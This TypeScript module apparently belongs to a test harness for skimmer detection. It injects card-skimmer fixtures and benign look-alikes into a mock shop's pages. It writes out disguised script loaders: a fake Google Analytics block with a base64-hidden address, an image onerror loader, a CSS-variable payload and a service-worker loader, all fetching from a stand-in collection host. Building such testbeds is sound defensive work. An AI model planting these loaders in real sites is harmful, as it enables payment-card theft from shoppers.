/** Puts the skimmer fixtures and benign twins into the shop's pages. */

import { type Context, fileAt, has } from './context.ts';
import { GLUE, SECOND_CONTAINER } from './fixture-files.ts';
import { skimmerText } from './fixture-texts.ts';
import { type Html, html, raw } from './markup.ts';
import type { HostId } from './places.ts';
import {
  BENIGN,
  type BenignId,
  type BenignTwin,
  TECHNIQUES,
  type Technique,
  type TechniqueId,
} from './techniques.ts';

type Place = (ctx: Context) => Html;

const file = (ctx: Context, host: HostId, path: string): Html =>
  html`<script src="${fileAt(ctx, host, path)}" defer></script>`;

const inline = (text: string): Html => html`<script>${raw(text)}</script>`;

/** How those get in that are not a plain script element in the head. */
const SPECIAL: Partial<Record<TechniqueId, Place>> = {
  'inline-loader': (ctx) => {
    const address = Buffer.from(fileAt(ctx, 'collect', '/ga/stage.js')).toString('base64');
    return html`<!-- Google Analytics -->
${inline(`(function(w,d,k){if(!/\\.localhost$/.test(w.location.hostname))return;w.dataLayer=w.dataLayer||[];
var s=d.createElement('script');s.async=1;s.src=w.atob(k);d.head.appendChild(s)})(window,document,'${address}');`)}
<!-- End Google Analytics -->`;
  },
  'container-script': (ctx) => file(ctx, 'tags', '/gtm/container.js?id=GTM-HNT4C29'),
  'second-container': (ctx) =>
    html`${file(ctx, 'tags', '/gtm.js?id=GTM-HNT4C29')}
${file(ctx, 'tags', `/gtm.js?id=${SECOND_CONTAINER}`)}`,
  'onerror-loader': () => html``,
  'css-variable': () => {
    const code = Buffer.from(skimmerText('css-variable')).toString('base64');
    return html`<style>${raw(`:root{--shop-theme:"${code}"}`)}</style>
${inline(skimmerText('css-variable.loader'))}`;
  },
  // Not deferred: it waits for fields that the parser has not come to.
  'mutation-observer': (ctx) =>
    html`<script src="${fileAt(ctx, 'collect', '/lib/watch.js')}"></script>`,
  'service-worker': () => inline(skimmerText('service-worker.loader')),
};

const TWIN_FILES: Partial<Record<BenignId, readonly [host: HostId, path: string]>> = {
  'chat-socket': ['tags', '/chat/live.js'],
  'error-tracker': ['tags', '/errors/tracker.js'],
  'formatter-obfuscated-default': ['shop', `${GLUE}card-formatter.default.js`],
  'formatter-obfuscated-high': ['shop', `${GLUE}card-formatter.high.js`],
};

/** Script elements of every fixture and twin that is on. */
export function fixtureScripts(ctx: Context): Html {
  const elements = [
    ...TECHNIQUES.filter((row) => has(ctx, row.switch)).map((row) => skimmer(ctx, row)),
    ...BENIGN.filter((row) => has(ctx, row.switch)).map((row) => twin(ctx, row)),
  ];
  return html`${elements.map((element) => html`\n${element}`)}`;
}

const skimmer = (ctx: Context, { id, from }: Technique): Html =>
  SPECIAL[id]?.(ctx) ?? file(ctx, ...from);

function twin(ctx: Context, { id, builds }: BenignTwin): Html {
  if (id.startsWith('shop-obfuscated')) return html``;
  const own = TWIN_FILES[id] ?? (['shop', `${GLUE}${id}.js`] as const);
  return html`${builds.map(([host, path]) => file(ctx, host, `/npm/${path}`))}
${file(ctx, ...own)}`;
}

/** The shop's own script, or what the obfuscator made of it. */
export function shopScriptPath(ctx: Context): string {
  if (has(ctx, 'twin-shop-obfuscated-default')) return `${GLUE}shop.default.js`;
  if (has(ctx, 'twin-shop-obfuscated-high')) return `${GLUE}shop.high.js`;
  return '/assets/shop.js';
}

/** What a fixture leaves in the body: an image that is none, with a handler that loads a script. */
export function fixtureBody(ctx: Context): Html {
  if (!has(ctx, 'skim-onerror-loader')) return html``;
  const address = fileAt(ctx, 'collect', '/fav/loader.js');
  const code = `if(/\\.localhost$/.test(location.hostname)){var s=document.createElement('script');s.src='${address}';document.head.appendChild(s)}`;
  return html`<img src="data:image/gif;base64,AAAA" width="1" height="1" alt="" onerror="${code}">`;
}

/** A page with a fixture has no policy: each technique must be free to act, as in the shops where it is found. */
export const hasFixture = (ctx: Context): boolean =>
  has(ctx, 'framed-srcdoc') || [...TECHNIQUES, ...BENIGN].some((row) => has(ctx, row.switch));
